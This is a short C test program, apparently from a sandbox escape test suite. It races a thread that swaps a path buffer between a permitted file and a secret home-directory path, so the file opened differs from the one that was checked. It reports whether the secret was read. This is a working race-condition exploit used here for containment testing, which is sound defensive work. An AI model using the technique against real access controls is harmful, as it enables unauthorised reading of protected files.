//: intent = "Another thread changes a path while the kernel is looking at it: what was checked is not what is opened."
//: limits = { cpu_time_ms = 20000, wall_time_ms = 60000 }
#include "attack.h"
#include <pthread.h>

static char path[1024];
static char own[] = "own", secret[1024];

static void *swap(void *nothing) {
    for (;;) {
        memcpy(path, secret, sizeof path);
        memcpy(path, own, sizeof own);
    }
    return nothing;
}

int main(void) {
    pthread_t thread;
    char found[64] = {0};
    close(open(own, O_WRONLY | O_CREAT, 0600));
    snprintf(secret, sizeof secret, "%s", fact("home"));
    pthread_create(&thread, NULL, swap, NULL);
    for (int i = 0; i < 20000; i++) {
        int fd = open(path, O_RDONLY);
        if (fd >= 0 && read(fd, found, sizeof found - 1) > 0)
            escaped("%s", found);
        close(fd);
    }
    contained();
}
